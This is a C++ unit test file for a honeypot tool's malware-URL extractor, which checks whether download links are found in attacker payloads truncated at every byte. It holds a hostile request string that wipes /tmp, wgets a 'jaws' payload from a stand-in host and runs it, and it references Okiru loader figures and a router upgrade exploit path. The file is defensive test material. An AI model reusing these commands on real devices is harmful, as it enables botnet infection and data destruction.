// Payloads that were seen: those of the report, whole and cut at every byte, and those of the modelled honeypot.
#include <gtest/gtest.h>

#include "payload/malware_urls.hpp"
#include "payload/typed.hpp"
#include "seed_payloads.hpp"
#include "simulate/conversation_plan.hpp"
#include "simulate/frame_sheet.hpp"

namespace nightjar {
namespace {

using Lines = std::vector<std::string>;

std::vector<Download> found_in(std::string_view payload) {
  return malware_urls({reinterpret_cast<const std::uint8_t*>(payload.data()), payload.size()});
}

/// Cut at every byte there is the right address, or one that is told to be cut and how the right one begins, or none before the command.
void expect_right_or_cut(const std::string& payload, const std::string& url, const std::string& last_of_command) {
  const std::size_t complete = payload.find(last_of_command) + last_of_command.size();
  std::size_t whole = 0, cut = 0;
  for (std::size_t size = 0; size <= payload.size(); ++size) {
    const auto found = found_in(std::string_view(payload).substr(0, size));
    ASSERT_LE(found.size(), 1u) << size;
    if (size >= complete) {
      ASSERT_EQ(found.size(), 1u) << payload.substr(0, size);
    }
    if (found.empty()) continue;
    if (found[0].cut) {
      ASSERT_LT(size, complete);
      ASSERT_TRUE(url.starts_with(found[0].url)) << found[0].url;
      ++cut;
    } else {
      ASSERT_EQ(found[0].url, url) << payload.substr(0, size);
      ++whole;
    }
  }
  EXPECT_GE(cut, 10u);
  EXPECT_EQ(whole, payload.size() - complete + 1);
}

TEST(CommandsSeen, FiguresOfTheReportWholeAndCutAtEveryByte) {
  for (const std::string host : {"***.***.***.***", "xxx.xxx.xxx.xxx", "■■■.■■■.■■■.■■■", "198.51.100.142", "h.example"}) {
    SCOPED_TRACE(host);
    const std::string figure7 = test::with_host(test::kFigure7, host), figure9 = test::with_host(test::kFigure9, host);
    expect_right_or_cut(figure7, "http://" + host + "/okiru.sh", "okiru.sh`");
    expect_right_or_cut(figure9, "http://" + host + "/okiru.mips", "okiru.mips;");
    const std::string header = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\n\r\n";
    expect_right_or_cut(header + figure9, "http://" + host + "/okiru.mips", "okiru.mips;");
    EXPECT_EQ(found_in(figure7).at(0).family, "okiru");
    EXPECT_EQ(found_in(figure9).at(0).architecture, "mips");
    EXPECT_EQ(found_in(figure9).at(0).local_name, "/tmp/rsh");
  }
}

TEST(CommandsSeen, InATargetCutAtEveryByte) {
  const std::string request = "GET /shell?cd+/tmp;rm+-rf+*;wget+http:/\\/198.51.100.142/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: h\r\n\r\n";
  expect_right_or_cut(request, "http://198.51.100.142/jaws", "/jaws;");
}

std::vector<std::string> urls_of(std::string_view payload) {
  std::vector<std::string> urls;
  for (const Download& download : found_in(payload)) urls.push_back(download.url + (download.cut ? " (cut)" : ""));
  return urls;
}

/// What is told of a visit and what is found in its conversations.
struct Sum {
  std::vector<LoginAttempt> logins;
  Lines commands, urls;

  void add(const Conversation& conversation) {
    const Typed typed = read_typed(conversation);
    logins.insert(logins.end(), typed.logins.begin(), typed.logins.end());
    commands.insert(commands.end(), typed.commands.begin(), typed.commands.end());
    for (std::string& url : urls_of(conversation.client)) urls.push_back(std::move(url));
  }
  void expect(const std::vector<simulate::VisitTold::Login>& told_logins, const Lines& told_commands, const Lines& told_urls) const {
    ASSERT_EQ(logins.size(), told_logins.size());
    for (std::size_t i = 0; i < logins.size(); ++i) {
      EXPECT_EQ(logins[i].user, told_logins[i].user);
      EXPECT_EQ(logins[i].password, told_logins[i].password);
      EXPECT_EQ(logins[i].accepted, told_logins[i].accepted);
    }
    EXPECT_EQ(commands, told_commands);
    EXPECT_EQ(urls, told_urls);
  }
};

Conversation empty_conversation(std::uint16_t port) {
  Conversation conversation;
  conversation.port = port;
  return conversation;
}

TEST(CommandsSeen, OfTheModelledHoneypotInTheirTurns) {
  std::size_t logins = 0, commands = 0, urls = 0;
  for (const simulate::Conversation& entry : simulate::conversations()) {
    for (std::uint64_t seed = 0; seed < 200; ++seed) {
      SCOPED_TRACE(std::string(entry.name) + " " + std::to_string(seed));
      simulate::VisitPlan plan;
      simulate::Random random(seed);
      entry.plan({0xc6120001, entry.port, entry.malware_host}, random, plan);
      Sum sum;
      for (const simulate::Dialogue& dialogue : plan.dialogues) {
        Conversation conversation = empty_conversation(entry.port);
        for (const simulate::Turn& turn : dialogue.turns) {
          (turn.visitor ? conversation.client : conversation.server) += turn.bytes;
          conversation.turns.push_back({turn.visitor, static_cast<std::uint32_t>(turn.bytes.size())});
        }
        sum.add(conversation);
      }
      ASSERT_NO_FATAL_FAILURE(sum.expect(plan.logins, plan.commands, plan.urls));
      logins += plan.logins.size();
      commands += plan.commands.size();
      urls += plan.urls.size();
    }
  }
  EXPECT_GT(logins, 1'000u);
  EXPECT_GT(commands, 1'000u);
  EXPECT_GT(urls, 1'000u);
}

/// Nothing is known of the order: as if the client had not waited for a single prompt.
TEST(CommandsSeen, OfTheModelledHoneypotWithoutTurns) {
  for (const simulate::Conversation& entry : simulate::conversations()) {
    for (std::uint64_t seed = 0; seed < 200; ++seed) {
      SCOPED_TRACE(std::string(entry.name) + " " + std::to_string(seed));
      simulate::Knock syn;
      syn.from = {4, 0xcb007105, 0};
      syn.to = {4, 0xc6120001, 0};
      syn.src_port = 40'000;
      syn.dst_port = entry.port;
      syn.protocol = 6;
      syn.tcp_flags = 2;
      simulate::FrameSheet sheet;
      simulate::VisitTold told;
      simulate::add_visit(syn, &entry, seed, sheet, &told);
      Sum sum;
      for (const auto& connection : told.connections) {
        Conversation conversation = empty_conversation(entry.port);
        conversation.client = connection.visitor_says;
        conversation.server = connection.pot_says;
        sum.add(conversation);
      }
      ASSERT_NO_FATAL_FAILURE(sum.expect(told.logins, told.commands, told.urls));
    }
  }
}

}  // namespace
}  // namespace nightjar
